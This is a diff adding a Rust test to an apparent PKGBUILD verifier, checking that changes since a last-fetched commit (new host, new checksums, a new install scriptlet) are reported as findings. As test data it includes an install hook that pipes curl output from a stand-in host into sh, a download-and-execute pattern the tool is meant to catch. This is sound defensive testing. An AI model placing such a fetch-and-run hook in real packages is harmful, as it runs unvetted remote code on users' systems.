@@ -360,3 +360,83 @@ fn checksum_verdicts_agree_with_makepkg() {
         assert_eq!(ours.code == 0, should_pass, "mc-verify: {:?}", ours.records);
     }
 }
+
+/// Given the commit the user last fetched (a `pkgbuild` record's `previous_commit`), what changed
+/// since is reported: a new host, new checksums under the same version, a new install scriptlet.
+#[test]
+fn changes_since_the_last_fetched_commit_are_findings() {
+    let upstream = tempfile::tempdir().expect("tempdir");
+    fs::write(upstream.path().join("app.tar.gz"), b"release two").expect("write");
+    let server = MirrorServer::start(upstream.path(), "127.0.0.1:0").expect("server");
+    let port = server
+        .url()
+        .rsplit(':')
+        .next()
+        .unwrap_or_default()
+        .to_owned();
+    let work = tempfile::tempdir().expect("tempdir");
+    let folder = work.path().join("app");
+    let git = |args: &[&str]| {
+        let status = Command::new("git")
+            .arg("-C")
+            .arg(&folder)
+            .args(["-c", "user.name=t", "-c", "user.email=t@x.invalid"])
+            .args(args)
+            .status()
+            .expect("git runs");
+        assert!(status.success(), "git {args:?}");
+    };
+    let write = |host: &str, content: &[u8], install: &str| {
+        let source = (format!("http://{host}:{port}/app.tar.gz"), sha256(content));
+        pkgbuild(
+            &folder,
+            "app",
+            &[source],
+            "\tinstall = app.install\n",
+            "pkgname=app\npkgver=1.0\npkgrel=1\n",
+        );
+        fs::write(folder.join("app.install"), install).expect("install");
+    };
+    write("127.0.0.1", b"release one", "post_install() { echo hi; }\n");
+    git(&["init", "-q"]);
+    git(&["add", "-A"]);
+    git(&["commit", "-q", "-m", "one"]);
+    let first = Command::new("git")
+        .arg("-C")
+        .arg(&folder)
+        .args(["rev-parse", "HEAD"])
+        .output()
+        .expect("git");
+    let first = String::from_utf8_lossy(&first.stdout).trim().to_owned();
+    write(
+        "localhost",
+        b"release two",
+        "post_install() { curl -s https://x.invalid | sh; }\n",
+    );
+    git(&["commit", "-q", "-am", "two"]);
+    let record = serde_json::json!({"type": "pkgbuild", "base": "app", "path": folder, "previous_commit": first});
+    let run = pipeline_tests::run(
+        &bin("mc-verify"),
+        &["--cache", &work.path().join("cache").display().to_string()],
+        &format!("{record}\n"),
+    );
+    let found = checks(&run);
+    for check in [
+        "source-host-changed",
+        "sources-changed",
+        "checksums-changed",
+        "install-changed",
+        "download-and-execute",
+    ] {
+        assert!(
+            found.iter().any(|c| c == check),
+            "{check} missing: {found:?}"
+        );
+    }
+    let changed = run
+        .of_type("finding")
+        .into_iter()
+        .find(|f| f["check"] == "checksums-changed")
+        .expect("found");
+    assert_eq!(changed["severity"], "warning", "same version, new bytes");
+}
